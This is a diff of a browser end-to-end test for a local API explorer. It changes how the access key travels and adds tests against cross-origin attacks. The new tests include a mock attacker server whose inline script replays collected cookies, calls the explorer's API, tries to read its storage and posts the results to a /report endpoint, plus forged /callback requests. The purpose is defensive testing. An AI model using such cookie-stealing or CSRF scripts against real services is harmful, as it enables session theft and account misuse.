@@ -8,7 +8,14 @@ import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { chromium, type Browser, type BrowserContext, type Locator, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Catalog, OperationDetail, SessionInfo, TokenPanel } from '../../shared/api.js';
+import {
+  ACCESS_KEY_HEADER,
+  type Catalog,
+  type OperationDetail,
+  type SessionInfo,
+  type TokenPanel,
+} from '../../shared/api.js';
+import { PAGE_KEY_STORAGE } from '../../src/core/page-key.js';
 
 const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
 const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../../../..');
@@ -39,8 +46,10 @@ interface Started {
   child: ChildProcess;
   /** The explorer's origin, `http://127.0.0.1:<port>`. */
   url: string;
-  /** The address it printed, with its key: what the user opens. */
+  /** The address it printed, with its key in the fragment: what the user opens. */
   openUrl: string;
+  /** That key. */
+  key: string;
   output: () => string;
 }
 
@@ -58,10 +67,10 @@ function npmStart(home: string): Promise<Started> {
     const timer = setTimeout(() => reject(new Error(`npm start printed no URL within 150 s:\n${output}`)), 150_000);
     const read = (chunk: Buffer) => {
       output += chunk.toString();
-      const match = /baykit explorer: ((http:\/\/127\.0\.0\.1:\d+)\/\?key=[\w-]+)\n/.exec(output);
-      if (match?.[1] && match[2]) {
+      const match = /baykit explorer: ((http:\/\/127\.0\.0\.1:\d+)\/#key=([\w-]+))\n/.exec(output);
+      if (match?.[1] && match[2] && match[3]) {
         clearTimeout(timer);
-        resolvePromise({ child, url: match[2], openUrl: match[1], output: () => output });
+        resolvePromise({ child, url: match[2], openUrl: match[1], key: match[3], output: () => output });
       }
     };
     child.stdout?.on('data', read);
@@ -83,13 +92,12 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
   const failedRequests: string[] = [];
 
   const shot = (name: string) => page.screenshot({ path: join(SCREENSHOTS, `${name}.png`), fullPage: false });
-  /** The access key's cookie as the browser keeps it (`name=value`), for requests the test makes itself. */
-  const keyCookie = async (): Promise<string> => {
-    const cookie = (await context.cookies()).find((c) => c.name === `baykit-explorer-${new URL(started.url).port}-key`);
-    return cookie ? `${cookie.name}=${cookie.value}` : '';
-  };
+  /** Every request the page's browser sent to the explorer: the URL as sent (never a fragment) and its headers. */
+  const sentToExplorer: { url: string; headers: Record<string, string> }[] = [];
+  /** The access key header, for requests the test makes itself. */
+  const keyHeader = () => ({ [ACCESS_KEY_HEADER]: started.key });
   const api = async <T>(path: string): Promise<T> =>
-    (await (await fetch(`${started.url}${path}`, { headers: { cookie: await keyCookie() } })).json()) as T;
+    (await (await fetch(`${started.url}${path}`, { headers: keyHeader() })).json()) as T;
   const statusLine = (text: RegExp) =>
     page.getByRole('region', { name: 'Response' }).getByRole('status').filter({ hasText: text });
   /** The form of the operation called `title` (`Call getItem`), not the one open before it. */
@@ -133,6 +141,10 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
     page.on('response', (response) => {
       if (response.status() >= 400) failedRequests.push(`${response.status()} ${response.url()}`);
     });
+    context.on('request', (request) => {
+      if (request.url().startsWith(`${started.url}/`))
+        sentToExplorer.push({ url: request.url(), headers: request.headers() });
+    });
     // The address npm start printed, as the user opens it.
     await page.goto(started.openUrl);
   }, 180_000);
@@ -149,12 +161,53 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
     if (home) rmSync(home, { recursive: true, force: true });
   });
 
-  it('opens from the printed address: its key becomes an HttpOnly, SameSite=Strict cookie and leaves the address bar', async () => {
+  it('opens from the printed address: the key moves from its fragment into the page, never to the server in a URL', async () => {
+    await expect.poll(() => page.getByLabel('Search operations').isVisible()).toBe(true);
+    // The address bar lost the key; the origin's own storage has it; no cookie holds it.
     expect(page.url()).toBe(`${started.url}/`);
-    const key = new URL(started.openUrl).searchParams.get('key');
-    const cookie = (await context.cookies()).find((c) => c.value === key);
-    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/api', domain: '127.0.0.1' });
-    // Another browser (no cookie) at the bare address is told what to open, and gets nothing from the API.
+    expect(await page.evaluate((name) => localStorage.getItem(name), PAGE_KEY_STORAGE)).toBe(started.key);
+    expect((await context.cookies()).filter((cookie) => cookie.value.includes(started.key))).toEqual([]);
+    // What the browser sent the explorer: the key in no URL (the fragment stays in the browser), in no header but
+    // x-baykit-key, and that header on every /api request and on nothing else.
+    expect(sentToExplorer.length).toBeGreaterThan(2);
+    expect(sentToExplorer.filter(({ url }) => url.includes(started.key))).toEqual([]);
+    for (const { url, headers } of sentToExplorer) {
+      const isApi = new URL(url).pathname.startsWith('/api/');
+      expect(headers[ACCESS_KEY_HEADER], url).toBe(isApi ? started.key : undefined);
+      const others = Object.entries(headers).filter(([name]) => name !== ACCESS_KEY_HEADER);
+      expect(
+        others.filter(([, value]) => value.includes(started.key)),
+        url,
+      ).toEqual([]);
+    }
+    expect(sentToExplorer.some(({ url }) => url === `${started.url}/api/session`)).toBe(true);
+    // A second tab of the explorer at its bare address works too: the key is in the origin's storage.
+    const second = await context.newPage();
+    try {
+      const session = second.waitForResponse((response) => response.url() === `${started.url}/api/session`);
+      await second.goto(started.url);
+      expect((await session).status()).toBe(200);
+      // An address with another key pasted into that open tab (only its fragment changes) loads the app again with
+      // it; refused, it is not stored, so the tab is told what to open and a reload brings the stored key back.
+      const refused = second.waitForResponse(
+        (response) =>
+          response.url() === `${started.url}/api/session` &&
+          response.request().headers()[ACCESS_KEY_HEADER] === 'not-this-start',
+      );
+      await second.goto(`${started.url}/#key=not-this-start`);
+      expect((await refused).status()).toBe(401);
+      expect(second.url()).toBe(`${started.url}/`);
+      await expect
+        .poll(() => second.getByRole('alert').filter({ hasText: 'an earlier start' }).count())
+        .toBeGreaterThan(0);
+      expect(await second.evaluate((name) => localStorage.getItem(name), PAGE_KEY_STORAGE)).toBe(started.key);
+      const again = second.waitForResponse((response) => response.url() === `${started.url}/api/session`);
+      await second.reload();
+      expect((await again).status()).toBe(200);
+    } finally {
+      await second.close();
+    }
+    // Another browser (no key) at the bare address is told what to open, and gets nothing from the API.
     const stranger = await browser.newContext();
     try {
       const other = await stranger.newPage();
@@ -164,10 +217,85 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
       // The header's notice (and the operation list, which could not load either) says it.
       const notice = other.getByRole('alert').filter({ hasText: 'Open the address the explorer printed' });
       await expect.poll(() => notice.count()).toBeGreaterThan(0);
-      expect(await notice.first().textContent()).toContain(`${started.url}/?key=…`);
+      expect(await notice.first().textContent()).toContain(`${started.url}/#key=…`);
       await other.screenshot({ path: join(SCREENSHOTS, 'no-key.png') });
     } finally {
       await stranger.close();
+    }
+  });
+
+  it('lets no page of another origin use the API: one on another port of 127.0.0.1 gets no key, and no request of its succeeds', async () => {
+    // The attack of the review: a server another user runs on 127.0.0.1. The owner's browser visits it (a link is
+    // enough); it records every cookie the browser sends it (cookies ignore ports), replays them to the explorer,
+    // and its page calls the explorer's API with what a page can send.
+    const received: string[] = [];
+    const attacker = createServer((req, res) => {
+      if (req.url === '/report') {
+        let body = '';
+        req.on('data', (chunk: Buffer) => (body += chunk.toString()));
+        req.on('end', () => {
+          received.push(`report ${body}`);
+          res.end();
+        });
+        return;
+      }
+      received.push(`cookie ${req.headers.cookie ?? ''}`);
+      res.writeHead(200, { 'content-type': 'text/html' });
+      res.end(`<title>attacker</title><script>
+        const target = ${JSON.stringify(started.url)};
+        const attempt = (init) => fetch(target + '/api/session', init).then((r) => 'status ' + r.status, (e) => 'failed ' + e.name);
+        // Same origin to it: any cookie of 127.0.0.1 with Path=/api reaches it here.
+        fetch('/api/steal').then(() => Promise.all([
+          attempt({ credentials: 'include' }),
+          attempt({ credentials: 'include', headers: { ${JSON.stringify(ACCESS_KEY_HEADER)}: 'guessed' } }),
+          attempt({ credentials: 'include', mode: 'no-cors' }),
+        ])).then((answers) => new Promise((done) => {
+          // The explorer in a window of its own: once it is there, its storage is another origin's.
+          const opened = window.open(target + '/', '_blank');
+          const look = (tries) => {
+            try {
+              if (!opened) return done([...answers, 'no window']);
+              if (opened.location.href.startsWith(target)) return done([...answers, 'read ' + opened.localStorage.length]);
+            } catch (e) {
+              return done([...answers, 'blocked ' + e.name]);
+            }
+            if (tries === 0) return done([...answers, 'never loaded']);
+            setTimeout(() => look(tries - 1), 50);
+          };
+          look(400);
+        })).then((answers) => fetch('/report', { method: 'POST', body: JSON.stringify(answers) }))
+          .then(() => { document.title = 'done'; });
+      </script>`);
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    const explorerAnswers: number[] = [];
+    const other = await context.newPage();
+    other.on('response', (response) => {
+      if (response.url().startsWith(`${started.url}/api/`)) explorerAnswers.push(response.status());
+    });
+    try {
+      await other.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`);
+      await expect.poll(() => other.title(), { timeout: 20_000 }).toBe('done');
+      const report = JSON.parse(received.find((line) => line.startsWith('report '))?.slice(7) ?? '[]') as string[];
+      // Read without the key: refused by CORS or opaque; with a header: its preflight is never granted; and the
+      // explorer's storage belongs to the explorer's origin alone.
+      expect(report[0]).toMatch(/^failed/);
+      expect(report[1]).toMatch(/^failed/);
+      expect(report[2]).toBe('status 0');
+      expect(report[3]).toBe('blocked SecurityError');
+      expect(explorerAnswers.length).toBeGreaterThan(0);
+      expect(explorerAnswers.every((status) => status === 401)).toBe(true);
+      // Every cookie the browser gave the attacker opens nothing on the explorer.
+      const cookies = received.filter((line) => line.startsWith('cookie ')).map((line) => line.slice(7));
+      expect(cookies.join(';')).not.toContain(started.key);
+      for (const cookie of cookies) {
+        const replayed = await fetch(`${started.url}/api/session`, { headers: { cookie } });
+        expect(replayed.status).toBe(401);
+      }
+    } finally {
+      for (const opened of context.pages()) if (opened !== page) await opened.close();
+      attacker.closeAllConnections();
+      await new Promise((resolve) => attacker.close(resolve));
     }
   });
 
@@ -626,12 +754,15 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
     await page.setViewportSize({ width: 1280, height: 800 });
   });
 
-  it("signs in with Auth'n'Auth on the emulator's page, and an image on another site cannot cancel it", async () => {
-    // localhost is another site than 127.0.0.1: its request to /callback carries no sign-in cookie.
-    const attacker = createServer((_req, res) => {
+  it("signs in with Auth'n'Auth on the emulator's page, and a page on another port of 127.0.0.1 cannot end it", async () => {
+    // Another port of 127.0.0.1 is the same site: the browser sends the sign-in cookie (SameSite=Strict) with its
+    // image and its navigation to /callback, each with the return's own word only (declined, accepted).
+    const attacker = createServer((req, res) => {
       res.writeHead(200, { 'content-type': 'text/html' });
       res.end(
-        `<img src="${started.url}/callback?isAuthSuccessful=false" onload="document.title='answered'" onerror="document.title='answered'">`,
+        req.url === '/navigate'
+          ? `<script>location.href = ${JSON.stringify(`${started.url}/callback?isAuthSuccessful=true&username=testuser`)};</script>`
+          : `<img src="${started.url}/callback?isAuthSuccessful=false" onload="document.title='answered'" onerror="document.title='answered'">`,
       );
     });
     await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
@@ -650,8 +781,16 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
 
       const other = await context.newPage();
       try {
-        await other.goto(`http://localhost:${(attacker.address() as AddressInfo).port}/`);
+        const attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
+        // (The browser hides the image's answer from the page, an HTML page as an image: only that it ended.)
+        await other.goto(`${attackerUrl}/`);
         await expect.poll(() => other.title()).toBe('answered');
+        const navigated = other.waitForResponse((response) => response.url().startsWith(`${started.url}/callback?`));
+        await other.goto(`${attackerUrl}/navigate`);
+        const refused = await navigated;
+        expect(refused.status()).toBe(400);
+        // The browser did send the sign-in cookie: it is the return's word alone that was not taken.
+        expect((await refused.request().allHeaders()).cookie ?? '').toMatch(/baykit-explorer-\d+-signin=/);
       } finally {
         await other.close();
       }
@@ -671,11 +810,10 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
     // eBay's sign-in page is another site, so its redirect to /callback carries no SameSite=Strict cookie. Here a
     // page on localhost (another site than 127.0.0.1) plays eBay: it sends the browser to the return the
     // emulator's consent produced.
-    const cookie = await keyCookie();
     const { csrfToken } = await api<SessionInfo>('/api/session');
     const start = await fetch(`${started.url}/api/auth/local/consent/start`, {
       method: 'POST',
-      headers: { 'content-type': 'application/json', 'x-csrf-token': csrfToken, cookie },
+      headers: { 'content-type': 'application/json', 'x-csrf-token': csrfToken, ...keyHeader() },
       body: '{}',
     });
     const { url: consentUrl } = (await start.json()) as { url: string };
@@ -694,7 +832,7 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
       const session = page.waitForResponse((response) => response.url() === `${started.url}/api/session`);
       await page.goto(`http://localhost:${(signInSite.address() as AddressInfo).port}/`);
       expect((await callback).status()).toBe(303);
-      // Back in the app, whose own requests carry the key cookie again (they are same-site): signed in.
+      // Back in the app, whose own requests carry the key from its origin's storage again: signed in.
       expect((await session).status()).toBe(200);
       await expect.poll(() => page.getByRole('status').filter({ hasText: 'Signed in.' }).count()).toBe(1);
       await expect.poll(() => page.getByRole('article', { name: 'User token' }).isVisible()).toBe(true);
@@ -710,7 +848,7 @@ describe.skipIf(!haveChromium)('explorer in Chromium (npm start)', () => {
 
   it('never shows a secret: no client secret or full token in the page', async () => {
     const html = await page.content();
-    expect(html).not.toContain(new URL(started.openUrl).searchParams.get('key'));
+    expect(html).not.toContain(started.key);
     expect(html).not.toContain('baykit-test-cert');
     expect(html).not.toMatch(/v\^1\.1#/);
   });
